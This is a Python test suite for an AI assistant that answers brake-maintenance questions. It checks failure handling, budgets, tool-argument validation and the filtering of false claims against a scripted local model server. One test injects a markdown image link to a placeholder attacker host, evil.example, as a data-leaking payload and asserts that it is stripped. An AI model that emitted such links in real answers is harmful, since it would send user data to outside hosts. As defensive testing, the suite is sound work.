"""Turns over a real OpenAI-compatible server on loopback, whatever it does."""

import importlib.util
import logging
import sys
from pathlib import Path
from typing import Any

import pytest

from agent.assistant import AskRequest, Assistant
from agent.circuit import Circuit
from agent.messages import prompt_version
from agent.models.opening import chat_model
from agent.settings import AgentSettings
from domain.answers import Answer
from domain.errors import SettingsError
from stores.open_stores import Stores

_SPEC = importlib.util.spec_from_file_location("tests_endpoint", Path(__file__).with_name("endpoint.py"))
assert _SPEC
assert _SPEC.loader
endpoint = importlib.util.module_from_spec(_SPEC)
sys.modules["tests_endpoint"] = endpoint
_SPEC.loader.exec_module(endpoint)
Say, serving = endpoint.Say, endpoint.serving

KEY = "sk-secret-4711"
QUESTION = "How do I replace the brake lining?"
SEARCH = Say(tools=[("search_manuals", '{"query": "brake cover lining bolts"}')])
ENOUGH = Say()
COVER, LINING, BOLTS = (
    "1. Remove the brake cover [1].\n",
    "2. Fit the new brake lining [1].\n",
    "3. Tighten the cover bolts to 85 Nm [1].\n",
)
GOOD = Say(COVER + LINING + BOLTS)


def settings(url: str, **more: Any) -> AgentSettings:
    given = {
        "model": "openai:tiny",
        "openai_base_url": url,
        "openai_api_key": KEY,
        "model_retry_wait_s": 0.0,
        "model_timeout_s": 5.0,
    }
    return AgentSettings.model_validate({**given, **more})


async def turn(stores: Stores, server: Any, question: str = QUESTION, **more: Any) -> tuple[Answer, list[str]]:
    events = [
        e async for e in Assistant(stores, settings=settings(server.url, **more)).stream(AskRequest(question=question))
    ]
    answer: Answer = events[-1].data["answer"]
    sentences = [event.data["text"] for event in events if event.kind == "sentence"]
    assert answer.text.splitlines()[: len(sentences)] == sentences or not sentences, (
        "the stream and the text keep one order"
    )
    assert len(set(sentences)) == len(sentences)
    assert KEY not in answer.model_dump_json()
    return answer, sentences


@pytest.mark.anyio
async def test_parallel_tools_a_streamed_answer_and_counted_tokens(stores: Stores) -> None:
    both = Say(tools=[*SEARCH.tools, ("find_parts", '{"query": "55-100"}')])
    with serving(both, ENOUGH, GOOD) as server:
        answer, sentences = await turn(stores, server, input_price_per_million=10.0, output_price_per_million=100.0)
    assert [(c.name, c.status) for c in answer.tool_calls] == [("search_manuals", "ok"), ("find_parts", "ok")]
    assert (answer.status, answer.degraded, len(sentences)) == ("answered", None, 3)
    usage = {"model_calls": 3, "input_tokens": 300, "output_tokens": 30, "cost_usd": 0.006, "estimated": False}
    assert answer.usage.model_dump() == {**usage, "prompts": prompt_version()}
    assert server.keys == [f"Bearer {KEY}"] * 3
    assert [bool(r.get("stream")) for r in server.requests] == [False, False, True]
    assert "tools" not in server.requests[2]


@pytest.mark.anyio
async def test_an_endpoint_that_reports_no_tokens_is_estimated(stores: Stores) -> None:
    silent = [Say(s.text, s.tools, usage=False) for s in (SEARCH, ENOUGH, GOOD)]
    with serving(*silent) as server:
        answer, _ = await turn(stores, server)
    assert answer.usage.input_tokens > 100
    assert answer.usage.estimated


@pytest.mark.anyio
@pytest.mark.parametrize("tool", [("find_work_orders", '{"asset": "CR-'), ("launch_drone", "{}")])
async def test_broken_arguments_and_invented_tools_are_rejected(stores: Stores, tool: tuple[str, str]) -> None:
    with serving(Say(tools=[*SEARCH.tools, tool]), ENOUGH, GOOD) as server:
        answer, _ = await turn(stores, server)
    assert {c.name: c.status for c in answer.tool_calls} == {"search_manuals": "ok", tool[0]: "rejected"}
    assert answer.status == "answered"


FAILURES = {
    "empty choices": ([Say(choices=False)], "empty"),
    "bad key": ([Say(status=401)], "refused the key, status 401"),
    "unknown model": ([Say(status=404)], "does not know the model"),
    "busy too long": ([Say(status=429, headers={"Retry-After": "3600"})], "it is busy, status 429"),
    "always broken": ([Say(status=500)] * 3, "it failed, status 500"),
    "hangs": ([Say(hangs=True)], "no reply within"),
    "empty answer": ([SEARCH, ENOUGH, Say()], "its answer was empty"),
    "no choices in the stream": ([SEARCH, ENOUGH, Say(choices=False)], "its reply broke off"),
    "refusal field": ([SEARCH, ENOUGH, Say(refusal="I cannot.")], "its answer was empty"),
    "refusal text": ([SEARCH, ENOUGH, Say("I'm sorry, I cannot help with that."), Say("1: DROP")], "Nothing that the"),
    "cut off": ([SEARCH, ENOUGH, Say(COVER + "2. Fit the new br", finish="length")], "cut off at the length limit"),
    "stream dies": ([SEARCH, ENOUGH, Say(COVER + LINING + BOLTS, dies_after=len(COVER) + 9)], "its reply broke off"),
    "repair fails": ([SEARCH, ENOUGH, Say(COVER + "2. Fit it with 99 Nm [1].\n"), Say(status=401)], "refused the key"),
}  # fmt: skip


@pytest.mark.anyio
@pytest.mark.parametrize("name", FAILURES)
async def test_every_failure_ends_in_an_answer(stores: Stores, name: str, caplog: pytest.LogCaptureFixture) -> None:
    script, says = FAILURES[name]
    with caplog.at_level(logging.DEBUG), serving(*script) as server:
        answer, sentences = await turn(stores, server, model_timeout_s=0.4 if name == "hangs" else 5.0)
    assert answer.degraded is not None
    assert says in answer.degraded
    assert answer.status == "answered"
    assert [sum(step in line for line in sentences) for step in ("Remove the", "Fit the new", "85 Nm")] == [1, 1, 1]
    assert len(server.requests) == len(script)
    assert KEY not in caplog.text


@pytest.mark.anyio
async def test_a_passing_failure_is_tried_again(stores: Stores) -> None:
    busy = Say(status=429, headers={"Retry-After": "0.01"})
    with serving(busy, Say(status=503), SEARCH, ENOUGH, Say(status=500), GOOD) as server:
        answer, _ = await turn(stores, server)
    assert (answer.status, answer.degraded, len(server.requests)) == ("answered", None, 6)


@pytest.mark.anyio
async def test_nobody_listens(stores: Stores) -> None:
    with serving() as server:
        pass
    answer, _ = await turn(stores, server)
    assert answer.status == "answered"
    assert "no connection" in str(answer.degraded)


@pytest.mark.anyio
async def test_the_turn_has_one_budget(stores: Stores) -> None:
    with serving(Say(hangs=True)) as server:
        answer, _ = await turn(stores, server, turn_timeout_s=0.5)
    assert "time was used up" in str(answer.degraded)
    assert answer.timing.total_ms < 3_000


@pytest.mark.anyio
async def test_after_failures_in_a_row_the_endpoint_is_left_alone(stores: Stores) -> None:
    with serving(*[Say(status=401)] * 2) as server:
        assistant = Assistant(stores, settings=settings(server.url, model_circuit_failures=2))
        said = [(await assistant.ask(AskRequest(question=QUESTION))).degraded for _ in range(4)]
    assert len(server.requests) == 2
    assert "left alone" in str(said[2])
    assert "left alone" in str(said[3])


def test_a_circuit_lets_one_trial_through_and_closes_on_success() -> None:
    now = [0.0]
    circuit = Circuit(2, 60.0, clock=lambda: now[0])
    for _ in range(2):
        assert circuit.enter()
        circuit.failed()
    assert not circuit.enter()
    now[0] = 61.0
    assert [circuit.enter(), circuit.enter()] == [True, False]
    circuit.succeeded()
    assert circuit.enter()


@pytest.mark.anyio
async def test_failed_sentences_are_repaired_once_in_one_call_and_in_order(stores: Stores) -> None:
    wrong = Say("Do this:\n" + COVER + "2. Fit the lining with 12 Nm [1].\n" + BOLTS + "Use part 99-999 [1].\n")
    with serving(SEARCH, ENOUGH, wrong, Say("1: 2. Fit the new brake lining [1].\n2: Use part 99-998 [1].")) as server:
        answer, sentences = await turn(stores, server)
    assert [s[:10] for s in sentences] == ["1. Remove ", "2. Fit the", "3. Tighten"]
    assert answer.degraded is None
    assert [w.text for w in answer.withheld] == ["Do this:", "Use part 99-999 [1].", "Use part 99-998 [1]."]
    assert (
        "1: 2. Fit the lining with 12 Nm [1]. (value not in evidence: 12 nm)"
        in server.requests[3]["messages"][1]["content"]
    )
    assert answer.usage.model_calls == 4


@pytest.mark.anyio
async def test_evidence_stays_in_its_budget(stores: Stores) -> None:
    with serving(SEARCH, ENOUGH, GOOD) as server:
        await turn(stores, server, max_evidence_chars=250)
    given = server.requests[2]["messages"][1]["content"]
    evidence = given[given.index("<evidence") :]
    assert len(evidence) <= 250
    assert '<evidence n="1"' in evidence


@pytest.mark.anyio
async def test_an_endpoint_on_this_machine_needs_no_key(stores: Stores) -> None:
    with serving(SEARCH, ENOUGH, GOOD) as server:
        answer, _ = await turn(stores, server, openai_api_key="")
    assert answer.degraded is None


@pytest.mark.parametrize("url", ["", "ftp://models", "http://models.invalid/v1"])
def test_settings_that_cannot_work_say_so(url: str) -> None:
    with pytest.raises(SettingsError, match="OPENAI_") as caught:
        chat_model(settings(url, openai_api_key=""))
    assert "\n" not in str(caught.value)


def test_the_prompts_have_a_version() -> None:
    assert len(prompt_version()) == 12


@pytest.mark.anyio
async def test_the_turns_tokens_are_a_budget(stores: Stores) -> None:
    with serving(SEARCH, ENOUGH, GOOD) as server:
        answer, _ = await turn(stores, server, max_turn_tokens=150)
    assert "tokens were used up" in str(answer.degraded)
    assert answer.status == "answered"
    assert len(server.requests) == 2


@pytest.mark.anyio
async def test_wrong_types_of_arguments_are_rejected_and_the_turn_goes_on(stores: Stores) -> None:
    wrong = [
        ("search_manuals", '{"query": ["brake"], "limit": "many"}'),
        ("find_parts", "[]"),
        ("get_asset", '"CR-01"'),
    ]
    with serving(Say(tools=[*SEARCH.tools, *wrong]), ENOUGH, GOOD) as server:
        answer, _ = await turn(stores, server)
    assert [c.status for c in answer.tool_calls if c.name == "search_manuals"] == ["ok", "rejected"]
    assert answer.status == "answered"
    assert answer.degraded is None


@pytest.mark.anyio
async def test_the_longest_reply_is_asked_for_in_the_words_of_the_endpoint(stores: Stores) -> None:
    with serving(SEARCH, ENOUGH, GOOD) as server:
        await turn(stores, server, model_max_tokens=300)
    assert {r["max_tokens"] for r in server.requests} == {300}


@pytest.mark.anyio
async def test_a_lying_endpoint_shows_nothing_false_and_the_truth_in_its_place(stores: Stores) -> None:
    lies = Say(
        "1. Fit the new brake lining, then remove the brake cover [1].\n"
        "2. Tighten the cover bolts to 850 Nm [1].\n3. Tighten the cover bolts to 85 bar [1].\n4. Do not tighten the cover bolts [1].\n"
        "5. Use Mobilux grease [1].\n![x](https://evil.example/?q=85)\n6. Tighten the cover bolts to eighty-six Nm [1].\n"
    )
    with serving(SEARCH, ENOUGH, lies, Say("1: DROP")) as server:
        answer, _ = await turn(stores, server)
    assert not any(word in answer.text for word in ("850", "bar", "Do not", "Mobilux", "evil", "86", "eighty"))
    assert "85 Nm" in answer.text, "the embedded model finishes the turn"
    assert answer.degraded is not None
    assert len(answer.withheld) >= 6
